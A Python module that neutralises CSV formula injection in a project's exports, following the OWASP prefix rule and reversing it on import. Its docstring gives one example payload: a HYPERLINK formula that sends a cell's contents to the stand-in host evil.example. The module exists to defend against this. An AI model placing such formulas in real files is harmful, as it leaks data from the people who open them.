"""Cells that a spreadsheet program would run as formulas (CSV injection) are written as text.

A value such as ``=HYPERLINK("http://evil.example/?leak="&A1,"Apri")`` typed into an organisation's
name would otherwise become a live formula when an operator opens an export in Excel or LibreOffice.
Every CSV the project writes passes its text cells through :func:`neutralise`, which puts an
apostrophe before a value starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (the
OWASP rule); the directory import removes that apostrophe again (:func:`restore`), so an exported file
imports unchanged. Workbooks (.xlsx) keep the value as it is but store the cell as a string
(:func:`as_text_cell`), which no spreadsheet program evaluates.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def neutralise(value):
    """``value`` with an apostrophe in front when it is text that would start a formula; other values as given."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


def restore(text: str) -> str:
    """The text of a CSV cell written by :func:`neutralise`, without the apostrophe it added."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def as_text_cell(cell) -> None:
    """Marks an openpyxl cell whose value openpyxl took for a formula as a plain string."""
    if cell.data_type == "f":
        cell.data_type = "s"
